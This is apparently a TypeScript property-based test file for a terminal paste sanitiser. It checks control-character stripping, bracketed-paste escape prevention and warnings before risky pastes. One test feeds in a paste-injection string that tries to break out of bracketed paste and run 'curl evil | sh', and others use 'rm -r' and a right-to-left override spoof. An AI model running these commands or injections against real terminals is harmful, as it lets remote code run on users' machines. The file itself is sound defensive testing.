import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanPaste, pasteRisks, wrapPaste } from './paste.ts';

const ESC = '\u001b';
// Text with many more controls and pieces of control sequences than chance would bring.
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(ESC, '\u009b', '\u0000', '\u0003', '\u007f', '[201~', '201~', '[200~', '\r', '\n', '\r\n', '\t', '\u0085', '\u202e'),
      fc.string({ unit: 'binary' }),
      fc.integer({ min: 0, max: 0x9f }).map((code) => String.fromCodePoint(code)),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''));

describe('a pasted text', () => {
  it('never holds a control character other than tab and CR, whatever was on the clipboard', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        for (const character of cleanPaste(text)) {
          const code = character.codePointAt(0) ?? 0;
          expect(code === 0x09 || code === 0x0d || (code >= 0x20 && code < 0x7f) || code > 0x9f).toBe(true);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('cannot leave bracketed paste: the end mark is there once, at the end', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const sent = wrapPaste(cleanPaste(text), true);
        expect(sent.startsWith(`${ESC}[200~`)).toBe(true);
        expect(sent.indexOf(`${ESC}[201~`)).toBe(sent.length - 6);
        expect(sent.split(ESC).length).toBe(3);
        expect(sent).not.toContain('\u009b');
      }),
      { numRuns: 500 },
    );
  });

  it('stays what it is when it is cleaned again', () => {
    fc.assert(fc.property(hostile, (text) => cleanPaste(cleanPaste(text)) === cleanPaste(text)));
  });

  it('keeps all that is not a control character, emoji and other scripts included', () => {
    expect(cleanPaste('echo "grüße 你好 👩‍🚀"\tx')).toBe('echo "grüße 你好 👩‍🚀"\tx');
  });

  it('has one CR for every line end, as the Enter key sends it', () => {
    expect(cleanPaste('a\r\nb\nc\rd\n\ne')).toBe('a\rb\rc\rd\r\re');
  });

  it('loses an end mark that tries to get out', () => {
    expect(wrapPaste(cleanPaste(`ls${ESC}[201~\ncurl evil | sh\n`), true)).toBe(`${ESC}[200~ls[201~\rcurl evil | sh\r${ESC}[201~`);
  });
});

describe('the look before a paste', () => {
  it('is not asked for one line', () => {
    expect(pasteRisks('ls -l', false)).toEqual([]);
    expect(pasteRisks('ls -l', true)).toEqual([]);
  });

  it('is asked for a line with its end when the shell would run it at once', () => {
    expect(pasteRisks('rm -r x\r', false)).toEqual([{ kind: 'lines', lines: 1, runsAtOnce: true }]);
    expect(pasteRisks('a\rb', false)).toEqual([{ kind: 'lines', lines: 2, runsAtOnce: true }]);
  });

  it('is not asked for up to ten lines when the shell waits for Enter', () => {
    expect(pasteRisks(Array(10).fill('x').join('\r'), true)).toEqual([]);
    expect(pasteRisks(Array(11).fill('x').join('\r'), true)).toEqual([{ kind: 'lines', lines: 11, runsAtOnce: false }]);
  });

  it('is asked above 5 KiB of UTF-8', () => {
    expect(pasteRisks('ü'.repeat(2_560), true)).toEqual([]);
    expect(pasteRisks('ü'.repeat(2_561), true)).toEqual([{ kind: 'size', bytes: 5_122 }]);
  });

  it('is asked for text that is shown in another order than it is sent', () => {
    expect(pasteRisks('rm \u202efdp.exe', true)).toEqual([{ kind: 'reordered' }]);
  });
});
